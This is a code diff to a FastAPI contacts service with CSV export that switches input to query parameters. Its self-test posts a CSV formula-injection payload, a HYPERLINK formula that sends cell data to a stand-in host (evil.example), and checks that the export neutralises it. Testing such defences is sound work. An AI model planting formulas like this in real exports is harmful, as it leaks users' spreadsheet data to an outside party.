@@ -6,9 +6,9 @@ import io
 from collections import deque
 from typing import Any
 
-from fastapi import FastAPI
+from fastapi import FastAPI, Query
 from fastapi.responses import Response
-from pydantic import BaseModel, Field
+from pydantic import BaseModel
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
@@ -32,8 +32,8 @@ class CSVResponse(Response):
 
 
 class Contact(BaseModel):
-    name: str = Field(max_length=100)
-    city: str = Field(max_length=100)
+    name: str
+    city: str
 
 
 app = FastAPI()
@@ -42,7 +42,10 @@ CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)
 
 
 @app.post("/contacts", status_code=201)
-def add_contact(contact: Contact) -> Contact:
+def add_contact(
+    name: str = Query(max_length=100), city: str = Query(max_length=100)
+) -> Contact:
+    contact = Contact(name=name, city=city)
     CONTACTS.append(contact)
     return contact
 
@@ -62,7 +65,7 @@ if __name__ == "__main__":
     client = TestClient(app)
 
     evil = {"name": '=HYPERLINK("http://evil.example/?"&A1,"Details")', "city": "Oslo"}
-    client.post("/contacts", json=evil)
+    client.post("/contacts", params=evil)
     export = client.get("/contacts.csv")
     print(export.status_code, export.headers["content-type"])
     #> 200 text/csv; charset=utf-8
@@ -73,7 +76,7 @@ if __name__ == "__main__":
         #> "'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",Oslo
 
     tricky = {"name": 'Lee, "Sam"\nJr.', "city": "Paris"}
-    client.post("/contacts", json=tricky)
+    client.post("/contacts", params=tricky)
     rows = list(csv.DictReader(io.StringIO(client.get("/contacts.csv").text)))
     print(rows[-1])
     #> {'name': 'Lee, "Sam"\nJr.', 'city': 'Paris'}
